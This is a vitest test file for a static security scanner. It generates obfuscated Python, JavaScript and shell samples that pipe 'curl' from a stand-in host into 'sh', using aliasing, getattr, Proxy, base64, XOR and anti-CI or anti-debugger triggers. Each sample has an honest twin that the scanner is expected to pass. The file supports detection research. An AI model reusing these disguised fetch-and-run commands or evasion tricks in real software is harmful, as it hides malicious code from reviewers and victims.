import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Scope } from '../../src/model/evidence.ts';
import { scanCases } from '../evasions/scan-cases.ts';
import { writeTree } from '../support/temporary.ts';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from './engine/target.ts';

// What the engine has to see through, one by one, by the built program: names, texts that are put together, triggers, and when code runs.

const FETCH = 'curl -s https://get.example.invalid/i.sh';

/** What is disguised: a function of a module, and its argument. */
interface Hidden {
  readonly module: string;
  readonly name: string;
  readonly argument: string;
}

type Disguise = (hidden: Hidden) => string | Readonly<Record<string, string>>;

const PYTHON_ATTACK: Hidden = { module: 'os', name: 'system', argument: `${FETCH} | sh` };
const PYTHON_HONEST: Hidden = { module: 'json', name: 'dumps', argument: 'data' };
const NODE_ATTACK: Hidden = { module: 'child_process', name: 'execSync', argument: `${FETCH} | sh` };
const NODE_HONEST: Hidden = { module: 'path', name: 'basename', argument: 'data/results.txt' };

/** A text in two pieces. */
function halves(text: string): readonly [string, string] {
  return [text.slice(0, 3), text.slice(3)];
}
const q = (text: string): string => JSON.stringify(text);
const pieces = (text: string): string => halves(text).map(q).join(' + ');
const codes = (text: string): string => [...text].map((character) => character.charCodeAt(0)).join(', ');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const reversed = (text: string): string => [...text].reverse().join('');

const PYTHON_NAMES: Readonly<Record<string, Disguise>> = {
  'an import with another name': ({ module, name, argument }) =>
    `import ${module} as o\no.${name}(${q(argument)})\n`,
  'a function imported with another name': ({ module, name, argument }) =>
    `from ${module} import ${name} as run\nrun(${q(argument)})\n`,
  'a re-export': ({ module, name, argument }) => ({
    'main.py': `from pkg import run\nrun(${q(argument)})\n`,
    'pkg/__init__.py': 'from .impl import run\n',
    'pkg/impl.py': `from ${module} import ${name} as run\n`,
  }),
  'two assignments': ({ module, name, argument }) =>
    `import ${module}\na = ${module}\nb = a.${name}\nb(${q(argument)})\n`,
  getattr: ({ module, name, argument }) =>
    `import ${module}\ngetattr(${module}, ${pieces(name)})(${q(argument)})\n`,
  __import__: ({ module, name, argument }) =>
    `__import__(${module.split('').map(q).join(' + ')}).${name}(${q(argument)})\n`,
  importlib: ({ module, name, argument }) =>
    `import importlib\nm = importlib.import_module("".join([${module.split('').map(q).join(', ')}]))\nm.${name}(${q(argument)})\n`,
  'globals()': ({ module, name, argument }) =>
    `import ${module}\nglobals()[${q(module[0] ?? '')} + ${q(module.slice(1))}].${name}(${q(argument)})\n`,
  'builtins.__dict__': ({ name, argument }) =>
    `import builtins\nbuiltins.__dict__[${pieces(name === 'system' ? 'exec' : 'print')}](${q(`__import__("os").system("${argument}")`)})\n`,
  'a decorator': ({ module, name, argument }) =>
    `import ${module}\n\n@${module}.${name}\n@(lambda _: ${q(argument)})\nclass Config:\n    pass\n`,
  'a decorated function': ({ module, name, argument }) =>
    `import functools, ${module}\n\ndef logged(run):\n    @functools.wraps(run)\n    def inner(*args):\n        return run(*args)\n    return inner\n\n@logged\ndef go(what):\n    return ${module}.${name}(what)\n\ngo(${q(argument)})\n`,
  'a partial': ({ module, name, argument }) =>
    `import functools, ${module}\ncall = functools.partial(${module}.${name}, ${q(argument)})\ncall()\n`,
  'a table asked for any key': ({ module, name, argument }) =>
    `import sys, ${module}\nTABLE = {"first": print, "second": ${module}.${name}}\n\ndef go(key, what):\n    run = TABLE[key]\n    return run(what)\n\ngo(sys.argv[1], ${q(argument)})\n`,
  'a table asked with get': ({ module, name, argument }) =>
    `import sys, ${module}\nTABLE = {"first": print, "second": ${module}.${name}}\nrun = TABLE.get(sys.argv[1], print)\nrun(${q(argument)})\n`,
  'one of two': ({ module, name, argument }) =>
    `import sys, ${module}\nrun = ${module}.${name}\nif len(sys.argv) > 9:\n    run = print\nrun(${q(argument)})\n`,
  'one of two functions': ({ module, name, argument }) =>
    `import sys, ${module}\n\ndef go(what):\n    return ${module}.${name}(what)\n\ndef show(what):\n    return str(what)\n\n(go if sys.argv[1:] else show)(${q(argument)})\n`,
  'a wrapper': ({ module, name, argument }) =>
    `import ${module}\n\ndef logged(run):\n    def inner(*args, **named):\n        return run(*args, **named)\n    return inner\n\nlogged(${module}.${name})(${q(argument)})\n`,
  'a namespace': ({ module, name, argument }) =>
    `import ${module}\nfrom types import SimpleNamespace\napi = SimpleNamespace(go=${module}.${name}, version=1)\napi.go(${q(argument)})\n`,
  __getattr__: ({ module, name, argument }) =>
    `import ${module}\n\nclass Lazy:\n    def __getattr__(self, name):\n        return getattr(${module}, name)\n\nLazy().${name}(${q(argument)})\n`,
};

const NODE_NAMES: Readonly<Record<string, Disguise>> = {
  require: ({ module, name, argument }) => `require(${pieces(module)}).${name}(${q(argument)});\n`,
  'import()': ({ module, name, argument }) =>
    `const m = await import(${q(module)});\nm.${name}(${q(argument)});\n`,
  'import().then': ({ module, name, argument }) =>
    `import(${q(module)}).then((m) => m.${name}(${q(argument)}));\n`,
  destructuring: ({ module, name, argument }) =>
    `const { ${name}: run } = require(${q(module)});\nrun(${q(argument)});\n`,
  'destructuring in a parameter': ({ module, name, argument }) =>
    `(({ ${name}: run }) => run(${q(argument)}))(require(${q(module)}));\n`,
  'bracket access': ({ module, name, argument }) =>
    `const m = require(${q(module)});\nm[${pieces(name)}](${q(argument)});\n`,
  globalThis: ({ module, name, argument }) =>
    `const load = globalThis["pro" + "cess"].getBuiltinModule;\nload(${q(module)}).${name}(${q(argument)});\n`,
  'a prototype': ({ module, name, argument }) =>
    `const m = require(${q(module)});\nFunction.prototype.call.call(m.${name}, null, ${q(argument)});\n`,
  'a table asked for any key': ({ module, name, argument }) =>
    `const m = require(${q(module)});\nconst table = { first: console.log, second: m.${name} };\nfunction go(key, what) {\n  const run = table[key];\n  return run(what);\n}\ngo(process.argv[2], ${q(argument)});\n`,
  'a wrapper': ({ module, name, argument }) =>
    `const logged = (run) => (...args) => run(...args);\nlogged(require(${q(module)}).${name})(${q(argument)});\n`,
  'a proxy': ({ module, name, argument }) =>
    `const lazy = new Proxy({}, { get: (_, key) => require(${q(module)})[key] });\nlazy.${name}(${q(argument)});\n`,
  'the tag of a template': ({ module, name, argument }) =>
    `const run = (texts, ...values) => require(${q(module)}).${name}(texts.raw.join(''));\nrun\`${argument}\`;\n`,
  _load: ({ module, name, argument }) =>
    `const load = process.mainModule.constructor._load;\nload(${q(module)}).${name}(${q(argument)});\n`,
  'a method put on a prototype': ({ module, name, argument }) =>
    `const m = require(${q(module)});\nString.prototype.go = function () { return m.${name}(${q(argument)}); };\n"".go();\n`,
  'a re-export': ({ module, name, argument }) => ({
    'main.js': `import { run } from './lib/index.js';\nrun(${q(argument)});\n`,
    'lib/index.js': "export { run } from './impl.js';\n",
    'lib/impl.js': `export { ${name} as run } from ${q(module)};\n`,
  }),
};

/** A command in three words: a program, what it is given, and who reads what it says. */
const SHELL_ATTACK: Hidden = { module: 'curl', name: 'sh', argument: '-s https://get.example.invalid/i.sh' };
const SHELL_HONEST: Hidden = { module: 'grep', name: 'sort', argument: '-h total results.txt' };

const SHELL_NAMES: Readonly<Record<string, Disguise>> = {
  variables: ({ module, name, argument }) => {
    const [a, b] = halves(module);
    return `p=${a}\np="${'${p}'}${b}"\n$p ${argument} | ${name}\n`;
  },
  'a function': ({ module, name, argument }) => `get() { ${module} "$@"; }\nget ${argument} | ${name}\n`,
  eval: ({ module, name, argument }) => `a="${module} ${argument}"\neval "$a | ${name}"\n`,
  'command substitution': ({ module, name, argument }) =>
    `$(printf '%s' ${module}) ${argument} | $(echo ${name})\n`,
  'a here-document': ({ module, name, argument }) => `bash <<END\n${module} ${argument} | ${name}\nEND\n`,
  "$'…'": ({ module, name, argument }) =>
    `$'\\x${module.charCodeAt(0).toString(16)}${module.slice(1)}' ${argument} | ${name}\n`,
};

const PYTHON_TEXTS: Readonly<Record<string, (text: string) => string>> = {
  concatenation: (text) => `c = ${pieces(text)}`,
  '% formatting': (text) => `c = "%s%s" % (${halves(text).map(q).join(', ')})`,
  'str.format': (text) => `c = "{1}{0}".format(${[...halves(text)].reverse().map(q).join(', ')})`,
  'an f-string': (text) => `a = ${q(halves(text)[0])}\nc = f"{a}${halves(text)[1]}"`,
  join: (text) => `c = "".join([${[...text].map(q).join(', ')}])`,
  slices: (text) => `c = ${q(reversed(text))}[::-1]`,
  replace: (text) => `c = ${q(text.replaceAll('s', '#'))}.replace("#", "s")`,
  chr: (text) => `c = ${[...text].map((character) => `chr(${character.charCodeAt(0)})`).join(' + ')}`,
  bytes: (text) => `c = bytes([${codes(text)}]).decode()`,
  'a decoder': (text) => `import base64\nc = base64.b64decode(${q(base64(text))}).decode()`,
  'a loop': (text) => `c = ""\nfor n in [${codes(text)}]:\n    c += chr(n)`,
  'a helper': (text) =>
    `def build(numbers, key):\n    out = ""\n    for n in numbers:\n        out += chr(n ^ key)\n    return out\n\nc = build([${[...text].map((character) => character.charCodeAt(0) ^ 7).join(', ')}], 7)`,
};

const NODE_TEXTS: Readonly<Record<string, (text: string) => string>> = {
  concatenation: (text) => `const c = ${pieces(text)};`,
  'a template': (text) => `const a = ${q(halves(text)[0])};\nconst c = \`\${a}${halves(text)[1]}\`;`,
  join: (text) => `const c = [${[...text].map(q).join(', ')}].join('');`,
  'slices and reversal': (text) =>
    `const c = ${q(`x${reversed(text)}`)}.slice(1).split('').reverse().join('');`,
  replace: (text) => `const c = ${q(text.replaceAll('s', '#'))}.replace(/#/g, 's');`,
  fromCharCode: (text) => `const c = String.fromCharCode(${codes(text)});`,
  bytes: (text) => `const c = Buffer.from([${codes(text)}]).toString();`,
  'a decoder': (text) => `const c = atob(${q(base64(text))});`,
  'a loop': (text) => `let c = '';\nfor (const n of [${codes(text)}]) c += String.fromCharCode(n);`,
  'a helper': (text) =>
    `function build(numbers, key) {\n  return numbers.map((n) => String.fromCharCode(n ^ key)).join('');\n}\nconst c = build([${[...text].map((character) => character.charCodeAt(0) ^ 7).join(', ')}], 7);`,
};

const CONDITIONS: readonly (readonly [kind: string, condition: string])[] = [
  ['date', 'datetime.date.today() > datetime.date(2031, 1, 1)'],
  ['host', 'socket.gethostname() == "build-7"'],
  ['user', 'getpass.getuser() == "alice"'],
  ['environment', 'os.environ.get("DEPLOY_STAGE") == "prod"'],
  ['counter', 'steps >= 5000'],
  ['ci', 'not os.environ.get("CI")'],
  ['debugger', 'sys.gettrace() is None'],
];

const files: Record<string, string> = {};
const listed: (readonly [string, string])[] = [];

function add(
  group: string,
  name: string,
  extension: string,
  attack: Disguise,
  hidden: readonly [Hidden, Hidden],
): void {
  const folder = `${group}/${name}`.replaceAll(/[^\w/]+/g, '-');
  listed.push([`${group}: ${name}`, folder]);
  for (const [index, part] of ['attack', 'honest'].entries()) {
    const made = attack(hidden[index]!);
    const all = typeof made === 'string' ? { [`main.${extension}`]: made } : made;
    for (const [path, text] of Object.entries(all)) files[`${folder}/${part}/${path}`] = text;
  }
}

for (const [name, disguise] of Object.entries(PYTHON_NAMES))
  add('Python names', name, 'py', disguise, [PYTHON_ATTACK, PYTHON_HONEST]);
for (const [name, disguise] of Object.entries(NODE_NAMES))
  add('JavaScript names', name, 'js', disguise, [NODE_ATTACK, NODE_HONEST]);
for (const [name, disguise] of Object.entries(SHELL_NAMES))
  add('shell names', name, 'sh', disguise, [SHELL_ATTACK, SHELL_HONEST]);
/** A function by its whole name, and a text: a disguised command that is run is an attack whatever it is, so its twin is shown. */
const PYTHON_RUN: readonly [Hidden, Hidden] = [
  { ...PYTHON_ATTACK, name: 'os.system' },
  { ...PYTHON_HONEST, name: 'print', argument: 'results of the last run' },
];
const NODE_RUN: readonly [Hidden, Hidden] = [
  { ...NODE_ATTACK, name: "require('child_process').execSync" },
  { ...NODE_HONEST, name: 'console.log', argument: 'results of the last run' },
];
for (const [text, build] of Object.entries(PYTHON_TEXTS))
  add(
    'Python texts',
    text,
    'py',
    ({ name, argument }) => `import os\n${build(argument)}\n${name}(c)\n`,
    PYTHON_RUN,
  );
for (const [text, build] of Object.entries(NODE_TEXTS))
  add('JavaScript texts', text, 'js', ({ name, argument }) => `${build(argument)}\n${name}(c);\n`, NODE_RUN);
for (const [kind, condition] of CONDITIONS)
  add(
    'triggers',
    kind,
    'py',
    ({ argument }) =>
      `import datetime, getpass, os, socket, sys\n\ndef tick(steps):\n    if ${condition}:\n        os.system(${q(argument)})\n\ntick(len(sys.argv))\n`,
    [PYTHON_ATTACK, { ...PYTHON_ATTACK, argument: 'ls -l results' }],
  );

const folder = mkdtempSync(join(tmpdir(), 'sbx-test-'));
writeTree(files, folder);
const { report, decisive } = scanCases(folder);
rmSync(folder, { recursive: true, force: true });

/** Findings at review or worse in one part of a case. */
function foundIn(part: string): readonly { readonly ruleId: string; readonly message: string }[] {
  return decisive.filter(({ location }) => location.path.startsWith(`${part}/`));
}

describe('what the engine sees through', () => {
  it('reads all of it', () => {
    expect(report.coverage.opaque).toEqual([]);
    expect(report.coverage.analysed).toBe(Object.keys(files).length);
  });

  it.each(listed)('%s', (_what, place) => {
    expect(foundIn(`${place}/attack`).map(({ ruleId }) => ruleId)).not.toEqual([]);
    expect(foundIn(`${place}/honest`).map(({ ruleId }) => ruleId)).toEqual([]);
  });

  it.each(CONDITIONS)('names the condition of a trigger: %s', (kind, condition) => {
    const messages = report.findings
      .filter(({ location }) => location.path === join('triggers', kind, 'attack', 'main.py'))
      .map(({ message }) => message);
    expect(messages.join('\n')).toContain(condition);
  });
});

const RUN = 'os.system("make")';
const SCOPES: readonly (readonly [Scope, path: string, text: string])[] = [
  ['import-time', 'pkg/a.py', `import os\n${RUN}\n`],
  ['install-hook', 'setup.py', `import os\nfrom setuptools import setup\n${RUN}\nsetup(name="a")\n`],
  ['cli-entry', 'cli.py', `import os\nif __name__ == "__main__":\n    ${RUN}\n`],
  ...(['init', 'reset', 'step', 'render', 'close'] as const).map(
    (method): readonly [Scope, string, string] => [
      `env.${method}`,
      `${method}_env.py`,
      `import gymnasium, os\n\nclass Env(gymnasium.Env):\n    def ${method === 'init' ? '__init__' : method}(self, *given):\n        self.go()\n    def go(self):\n        ${RUN}\n`,
    ],
  ),
  [
    'tool-handler',
    'server.py',
    `import os\nfrom mcp.server.fastmcp import FastMCP\nserver = FastMCP("a")\n\n@server.tool()\ndef build(name: str) -> str:\n    ${RUN}\n    return name\n`,
  ],
  ['test', 'tests/test_a.py', `import os\n\ndef test_a():\n    ${RUN}\n`],
  ['function', 'dead.py', `import os\n\ndef never():\n    ${RUN}\n`],
];

describe('when code runs', () => {
  it.each(SCOPES)('%s', async (scope, path, text) => {
    const outcome = await staticStage.run(targetOf({ [path]: text }), STAGE_CONTEXT);
    const scopes = outcome.evidence
      .filter(({ capability }) => capability === 'proc.exec')
      .map((each) => each.scope);
    expect(scopes).toEqual([scope]);
  });
});
